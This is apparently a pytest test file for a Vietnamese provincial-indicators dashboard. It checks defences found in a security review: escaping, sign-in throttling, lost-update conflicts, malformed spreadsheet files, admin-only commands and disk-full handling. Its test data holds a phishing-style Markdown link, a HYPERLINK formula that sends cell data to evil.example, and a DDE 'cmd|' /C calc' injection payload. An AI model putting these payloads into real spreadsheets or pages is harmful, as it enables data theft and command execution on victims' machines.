"""What got through when the dashboard was attacked (issue 12), below the pages: the one escaping path, sign-in
throttling and its audit, lost updates, files that lie about their size or break mid-way, spreadsheet formulas,
commands that replace data, and the messages of a full disk or a damaged file."""

import io
import re
import subprocess
import sys
import zipfile
from datetime import timedelta

import duckdb
import openpyxl
import pandas as pd
import pytest

from indicators.domain.plain import formula_safe, formula_unsafe, html, md
from indicators.imports import ConflictError
from indicators.imports.table import Limits
from indicators.services import auth
from indicators.services.auth import SignInRefused
from tests.conftest import PASSWORD, REPO
from tests.test_import import HT, commit, csv_file, preview, stored

HOSTILE = ("[Phiên đăng nhập hết hạn – bấm để đăng nhập lại](https://evil.example) ![x](http://host.example/pixel) "
           ":red[**CẢNH BÁO: số liệu sai**] <a href=\"https://evil.example\">x</a> <b>đậm</b> $x^2$ &amp; "
           "https://evil.example/raw www.evil.example")


def rendered(markdown: str) -> str:
    """HTML as a CommonMark + GFM renderer makes it (what Streamlit's react-markdown does, near enough)."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)


def test_markdown_escaping_leaves_no_link_image_emphasis_or_directive():
    html_out = rendered(md(HOSTILE))
    assert not re.search(r"<(a|img|strong|em|b|del|code)\b", html_out)
    text = re.sub(r"<[^>]+>", "", html_out)
    import html as std_html

    assert std_html.unescape(text).strip().replace("\u2060", "") == HOSTILE  # the characters, nothing eaten
    assert "\u2060" in md("https://x") and md("plain text") == "plain text"  # bare addresses get a word joiner
    escaped = md(HOSTILE)
    assert ":red[" not in escaped and "https://" not in escaped and "www." not in escaped  # no directive, no autolink
    assert md("a\n\n# b") == "a \\# b"  # no new block from a line break


def test_plotly_text_is_escaped_and_formula_escapes_are_exactly_reversible():
    assert html('<a href="x">y</a> & <b>') == '&lt;a href="x"&gt;y&lt;/a&gt; &amp; &lt;b&gt;'
    for text in ["=SUM(A1)", "+1", "-2", "@x", "\tx", "'=x", "''+y", "'plain", "Hà Nội", "", "x=1"]:
        assert formula_unsafe(formula_safe(text)) == text
    assert formula_safe("'=x") == "''=x" and formula_safe("'plain") == "'plain"


def test_charts_carry_hostile_text_only_escaped(ds):
    from indicators.services import charts, comparisons

    series = comparisons.province_series(ds, (HT,), "papi_total", "vi").copy()
    series["source"] = HOSTILE
    series["label"] = HOSTILE
    meta = ds.indicator("papi_total")
    targets = comparisons.threshold_for(ds, [HT], "papi_total").head(0)
    figure = charts.trend_chart(series, targets, comparisons.reference_lines(ds, "papi_total"), meta, "vi")
    spec = figure.to_json()
    assert "<a " not in spec and "<b>đậm" not in spec and "&lt;a href" in spec


# --- sign-in ------------------------------------------------------------------------------------------------------

def test_sign_in_failures_are_throttled_per_account_in_the_database_and_recorded(engine, monkeypatch):
    for _ in range(auth.FREE_FAILURES):
        with pytest.raises(SignInRefused):
            auth.authenticate(engine, "lan", "wrong password!!")
    with pytest.raises(SignInRefused) as refused:
        auth.authenticate(engine, "lan", PASSWORD)  # the right password, too early: not even checked
    assert refused.value.wait > 0
    engine.close()  # a restart, another process: the count is in the file
    with pytest.raises(SignInRefused):
        auth.authenticate(engine, "lan", PASSWORD)
    # another client (the CLI) and another account are not held back by this client's failures
    assert auth.authenticate(engine, "lan", PASSWORD, channel="cli").name == "lan"
    assert auth.authenticate(engine, "minh", PASSWORD).name == "minh"
    later = auth._now() + timedelta(seconds=auth.FIRST_WAIT + 1)
    monkeypatch.setattr(auth, "_now", lambda: later)
    assert auth.authenticate(engine, "lan", PASSWORD).name == "lan"
    log = auth.audit(engine)
    lan = log[log.name == "lan"]
    assert list(lan.outcome[::-1]) == ["checking", "failed"] * 5 + ["throttled", "throttled"] + ["checking", "ok"] * 2
    assert set(lan.channel) == {"web", "cli"}


@pytest.mark.slow  # an hour of guesses
def test_guessing_rate_per_account_is_a_few_an_hour(engine, monkeypatch):
    """An attacker who waits exactly as long as asked, for an hour of clock: the waits double."""
    clock = [auth._now()]
    monkeypatch.setattr(auth, "_now", lambda: clock[0])
    checked = 0
    end = clock[0] + timedelta(hours=1)
    while clock[0] < end:
        wait = auth.wait_before_sign_in(engine, "lan")
        clock[0] += timedelta(seconds=wait)
        try:
            auth.authenticate(engine, "lan", f"guess number {checked}")
        except SignInRefused:
            pass
        checked += 1
    assert checked <= auth.FREE_FAILURES + 8


# --- lost updates ---------------------------------------------------------------------------------------------

def test_confirm_refuses_a_preview_whose_replaced_value_changed_meanwhile(engine):
    commit(engine, preview(engine, "a.csv", csv_file("Hà Tĩnh,sipas,2023,10,BC 1")))
    mine = preview(engine, "mine.csv", csv_file("Hà Tĩnh,sipas,2023,20,BC 2"))
    assert mine.counts["change"] == 1 and mine.rows("change").old_value.iloc[0] == 10
    commit(engine, preview(engine, "theirs.csv", csv_file("Hà Tĩnh,sipas,2023,15,BC 3")), user="minh", replace=True)
    with pytest.raises(ConflictError, match="changed since your preview"):
        commit(engine, mine, replace=True)
    assert stored(engine, HT, "sipas", "2023") == 15
    trail = engine.query("SELECT * FROM actual_history WHERE province_code = '42' AND indicator_code = 'sipas'"
                         " AND period = '2023'")
    assert trail.new_value.tolist() == [10, 15]


def test_a_target_changed_since_the_preview_is_not_overwritten(engine):
    from tests.test_import import TARGETS

    commit(engine, preview(engine, "t.csv", TARGETS.encode()))
    mine = preview(engine, "t.csv", TARGETS.replace(",95,", ",96,").encode())
    commit(engine, preview(engine, "t.csv", TARGETS.replace(",95,", ",97,").encode()), user="minh", replace=True)
    with pytest.raises(ConflictError, match="changed since your preview"):
        commit(engine, mine, replace=True)


# --- hostile files -----------------------------------------------------------------------------------------------

def _xlsx(rows: list[list], dimension: str | None = None, sheet_xml: str | None = None) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                if sheet_xml is not None:
                    data = sheet_xml.encode()
                elif dimension is not None:
                    data = re.sub(rb'<dimension ref="[^"]*"/>', f'<dimension ref="{dimension}"/>'.encode(), data)
            target.writestr(item, data)
    return out.getvalue()


HEADER = ["province", "indicator", "period", "value", "source"]


def test_an_xlsx_whose_dimension_lies_is_read_to_its_last_row(engine):
    rows = [HEADER] + [["Hà Tĩnh", "sipas", str(y), 80 + i, "BC"] for i, y in enumerate(range(2018, 2023))]
    content = _xlsx(rows, dimension="A1:E3")
    result = preview(engine, "lying.xlsx", content)
    assert result.ok and result.counts["insert"] == 5


def test_a_long_sheet_with_a_lying_dimension_meets_the_row_limit(engine):
    rows = [HEADER] + [["Hà Tĩnh", "sipas", "2023", 80, "BC"]] * 300
    result = preview(engine, "long.xlsx", _xlsx(rows, dimension="A1:E1"), limits=Limits(max_rows=200))
    assert not result.ok and "more than 200 rows" in result.problems[0].en


def test_a_csv_with_carriage_returns_only_counts_its_rows(engine):
    content = ("province,indicator,period,value,source\r" + "Hà Tĩnh,sipas,2023,80,BC\r" * 300).encode()
    result = preview(engine, "mac.csv", content, limits=Limits(max_rows=200))
    assert not result.ok and "more than 200 rows" in result.problems[0].en
    small = ("province,indicator,period,value,source\r" + "Hà Tĩnh,sipas,2023,80,BC\r").encode()
    assert preview(engine, "mac.csv", small).counts["insert"] == 1


def test_the_header_is_checked_before_the_rest_of_the_sheet_is_read(engine):
    """Unknown columns refuse the file at its header: the broken XML further down is never reached."""
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>x</t></is></c></row>' for n in range(2, 6000))
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             'spreadsheetml/2006/main"><dimension ref="A1:F6000"/><sheetData><row r="1">'
             + "".join(f'<c r="{c}1" t="inlineStr"><is><t>{h}</t></is></c>' for c, h in
                       zip("ABCDEF", HEADER + ["colour"]))
             + "</row>" + rows + '<row r="6000"><c r="A6000"')  # cut off: broken XML
    formula = '<row r="2"><c r="A2"><f>1+1</f><v>2</v></c></row>'  # a formula: the sheet is read row by row
    sheet = sheet.replace('<row r="2"><c r="A2" t="inlineStr"><is><t>x</t></is></c></row>', formula, 1)
    result = preview(engine, "header.xlsx", _xlsx([["x"]], sheet_xml=sheet))
    assert [p.column for p in result.problems] == ["F"] and "unknown column" in result.problems[0].en
    plain = _xlsx([HEADER + ["colour"], ["Hà Tĩnh", "sipas", "2023", 80, "BC", "red"]])  # read at once (calamine)
    assert [p.column for p in preview(engine, "plain.xlsx", plain).problems] == ["F"]


@pytest.mark.parametrize("breakage", ["truncated", "invalid", "missing part"])
def test_a_broken_xlsx_is_a_refusal_not_a_traceback(engine, breakage):
    good = _xlsx([HEADER, ["Hà Tĩnh", "sipas", "2023", 80, "BC"]])
    source = zipfile.ZipFile(io.BytesIO(good))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                if breakage == "missing part":
                    continue
                data = data[: len(data) // 2] if breakage == "truncated" else data.replace(b"</v>", b"</x>", 1)
            target.writestr(item, data)
    result = preview(engine, "broken.xlsx", out.getvalue())
    assert not result.ok and result.problems[0].en


@pytest.mark.parametrize("value", ["８５", "٨٥"])
def test_non_ascii_digits_are_refused_with_row_and_column(engine, value):
    for name, content in (("d.csv", csv_file(f"Hà Tĩnh,sipas,2023,{value},BC")),
                          ("d.xlsx", _xlsx([HEADER, ["Hà Tĩnh", "sipas", "2023", value, "BC"]]))):
        result = preview(engine, name, content)
        assert not result.ok
        assert (result.problems[0].row, result.problems[0].column) == (2, "D (value)")
        assert "digits other than 0–9" in result.problems[0].en


def test_exported_formula_escapes_import_back_exactly(engine):
    from indicators.services.exporting import to_csv

    texts = ["=HYPERLINK(\"https://evil.example\")", "'=already quoted", "+1 cmd", "plain 'quote"]
    quoted = ['"' + t.replace('"', '""') + '"' for t in texts]
    commit(engine, preview(engine, "a.csv", csv_file(*[f"Hà Tĩnh,sipas,{2018 + i},{70 + i},{q}"
                                                       for i, q in enumerate(quoted)])))
    from indicators.cli.main import EXPORT_COLUMNS

    exported = to_csv(engine.actuals()[EXPORT_COLUMNS["actuals"]])
    assert "'=HYPERLINK" in exported
    again = preview(engine, "back.csv", exported.encode())
    assert again.ok, [p.text() for p in again.problems[:3]]
    assert again.ok and again.counts["insert"] == 0 and again.counts["change"] == 0


def test_tables_hold_formula_escaped_text_for_the_toolbar_download():
    from indicators.services.exporting import safe_frame

    frame = pd.DataFrame({"a": ['=HYPERLINK("https://evil.example/?d="&A1,"x")', "+1+cmd|' /C calc'!A0", "@SUM(1)",
                                "ok"], "n": [1, 2, 3, 4]})
    safe = safe_frame(frame)
    assert [v[0] for v in safe.a[:3]] == ["'"] * 3 and safe.a[3] == "ok" and safe.n.tolist() == [1, 2, 3, 4]


# --- commands that replace data -------------------------------------------------------------------------------------

def cli(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    import os

    return subprocess.run([sys.executable, "-m", "indicators", *args], cwd=REPO, capture_output=True, text=True,
                          env={**{k: v for k, v in os.environ.items() if not k.startswith("KPI_")}, **(env or {})},
                          stdin=subprocess.DEVNULL)


@pytest.mark.slow  # every admin command as a process
def test_build_backup_and_restore_need_an_admin_and_are_recorded(engine, tmp_path):
    from tests.conftest import PG

    suffix = ".dump" if PG else ".duckdb"
    db = str(engine.path)
    backup = engine.backup(tmp_path / f"b{suffix}")
    engine.close()
    for args in (["build"], ["backup", str(tmp_path / f"attempt{suffix}")], ["restore", str(backup)]):
        done = cli(*args, "--db", db)
        assert done.returncode == 2 and "Traceback" not in done.stderr, (args, done.stderr)
        done = cli(*args, "--db", db, "--user", "lan", env={"KPI_PASSWORD": PASSWORD})
        assert done.returncode == 2 and "admin" in done.stderr, (args, done.stderr)
    admin = {"KPI_USER": "admin", "KPI_PASSWORD": PASSWORD}
    assert cli("build", "--db", db, env=admin).returncode == 0
    assert cli("backup", str(tmp_path / f"made{suffix}"), "--db", db, env=admin).returncode == 0
    restored = cli("restore", str(backup), "--db", db, env={**admin, "KPI_BACKUP_DIR": str(tmp_path)})
    assert restored.returncode == 0 and "by admin" in restored.stderr
    log = cli("users", "audit", "--db", db, env=admin)
    events = pd.read_csv(io.StringIO(log.stdout))
    done = events[events.outcome.isin(["ok", "replaced"]) & (events.name == "admin") & (events.action != "sign_in")]
    assert set(done.action) == {"restore"}  # the restored file's own trail: the copy had none, then its restore
    kept = next(tmp_path.glob("*.before-restore-*"))
    if PG:       # the database before the restore, dumped: its trail is read back by restoring it elsewhere
        from indicators.storage import check_backup

        assert kept.suffix == ".dump" and check_backup(kept, server=db)["audit_event"] > 0
        return
    before = cli("users", "audit", "--db", str(kept), env=admin)
    assert {"build", "backup", "restore"} <= set(pd.read_csv(io.StringIO(before.stdout)).action)


@pytest.mark.slow  # a second process holding the file
def test_build_if_needed_and_a_build_while_the_server_holds_the_file(tmp_path):
    db = tmp_path / "new.duckdb"
    assert cli("build", "--if-needed", "--db", str(db)).returncode == 0
    again = cli("build", "--if-needed", "--db", str(db))
    assert again.returncode == 0 and "nothing to do" in again.stderr
    holder = duckdb.connect(str(db))  # as the dashboard server does
    try:
        held = cli("build", "--db", str(db))
    finally:
        holder.close()
    assert held.returncode == 2 and "another process" in held.stderr and "Traceback" not in held.stderr


@pytest.mark.slow  # commands as processes
def test_a_damaged_database_is_named_and_a_read_never_writes(tmp_path):
    damaged = tmp_path / "damaged.duckdb"
    damaged.write_bytes(b"\x00garbage" * 10_000)
    before = damaged.read_bytes()
    for args in (["export", "actuals"], ["status", "--province", "42"], ["build"]):
        done = cli(*args, "--db", str(damaged))
        assert done.returncode == 2 and "Traceback" not in done.stderr
        assert "damaged" in done.stderr and "restore" in done.stderr, done.stderr
    assert damaged.read_bytes() == before


def test_new_passwords_are_asked_twice_in_a_terminal(engine, monkeypatch, capsys):
    from indicators.cli import main as command

    answers = iter(["first password 1", "first password 2"])
    monkeypatch.setattr(command.getpass, "getpass", lambda prompt="": next(answers))
    monkeypatch.setattr(command.sys.stdin, "isatty", lambda: True)
    monkeypatch.setenv("KPI_USER", "admin")
    monkeypatch.setenv("KPI_PASSWORD", PASSWORD)
    db = str(engine.path)
    engine.close()
    assert command.main(["users", "add", "thu", "--role", "viewer", "--db", db]) == 2
    assert "differ" in capsys.readouterr().err


# --- the disk ------------------------------------------------------------------------------------------------------

@pytest.fixture
def tiny_disk(tmp_path):
    """A 4 MB file system (tmpfs), where a backup or a big import runs out of space; skipped where mounting is
    not allowed."""
    mount = tmp_path / "tiny"
    mount.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", str(mount)], capture_output=True).returncode:
        pytest.skip("cannot mount a small tmpfs here")
    yield mount
    subprocess.run(["umount", "-l", str(mount)], check=False)


def test_a_backup_onto_a_full_disk_says_so_and_leaves_no_partial_file(engine, tiny_disk):
    from indicators.services.auth import backup_database
    from indicators.storage import BackupFailed
    from tests.conftest import PG

    if PG:   # a compressed dump fits in 4 MB: fill the disk first, leaving 64 KB
        (tiny_disk / "filler").write_bytes(b"\0" * (4 * 1024 * 1024 - 64 * 1024))
    with pytest.raises(BackupFailed, match="disk is full"):
        backup_database(engine, engine.users["admin"], tiny_disk / ("b.dump" if PG else "b.duckdb"), channel="test")
    (tiny_disk / "filler").unlink(missing_ok=True)
    assert list(tiny_disk.iterdir()) == []
    assert auth.audit(engine).iloc[0][["action", "outcome"]].tolist() == ["backup", "failed"]


def _store_whose_commit_fails(error: Exception):
    """A store whose connection fails at COMMIT with ``error``: what the one transaction helper maps."""
    from indicators.storage import open_store

    class Cursor:
        def execute(self, sql, *args):
            if sql == "COMMIT":
                raise error
            return self

        def close(self):
            pass

    class Connection:
        def cursor(self):
            return Cursor()

    store = open_store("never-opened.duckdb")
    store.db._connection = Connection()
    return store


def test_an_import_onto_a_full_disk_is_not_called_a_conflict(tiny_disk, built_db):
    from indicators.storage import StorageFailed

    store = _store_whose_commit_fails(duckdb.IOException('Could not write file "kpi.duckdb.wal": No space left on '
                                                         'device'))
    with pytest.raises(StorageFailed, match="disk is full"):
        with store.transaction():
            pass


def test_the_lock_message_is_kept_for_conflicts(engine):
    store = _store_whose_commit_fails(duckdb.TransactionException("Conflict on tuple deletion!"))
    with pytest.raises(ConflictError, match="another import"):
        with store.transaction():
            pass


# --- what a new user tripped on ---------------------------------------------------------------------------------

def test_vietnamese_order_comes_from_duckdb_not_a_compiled_library():
    from indicators.storage import vietnamese_order

    names = ["Đà Nẵng", "Cà Mau", "Bắc Giang", "Bạc Liêu", "An Giang", "Điện Biên", "Yên Bái"]
    order = vietnamese_order(names)
    assert sorted(names, key=order.get) == ["An Giang", "Bạc Liêu", "Bắc Giang", "Cà Mau", "Đà Nẵng", "Điện Biên",
                                            "Yên Bái"]
    assert "PyICU" not in (REPO / "requirements.txt").read_text()


def test_menu_icons_are_material_symbols_not_emoji():
    from indicators.web.ui import PAGES

    assert PAGES and all(icon.startswith(":material/") for _, _, icon, _ in PAGES)
    assert ':material/' in (REPO / "app.py").read_text()


def test_the_browser_token_is_the_same_under_every_mask_and_differs_between_browsers():
    import secrets

    from indicators.web.ui import token_digest

    def cookie(token: bytes) -> str:
        mask = secrets.token_bytes(4)
        masked = bytes(t ^ mask[i % 4] for i, t in enumerate(token))
        return f"2|{mask.hex()}|{masked.hex()}|1764620000"

    mine, theirs = secrets.token_bytes(32), secrets.token_bytes(32)
    assert token_digest(cookie(mine)) == token_digest('"' + cookie(mine) + '"')
    assert token_digest(cookie(mine)) != token_digest(cookie(theirs))
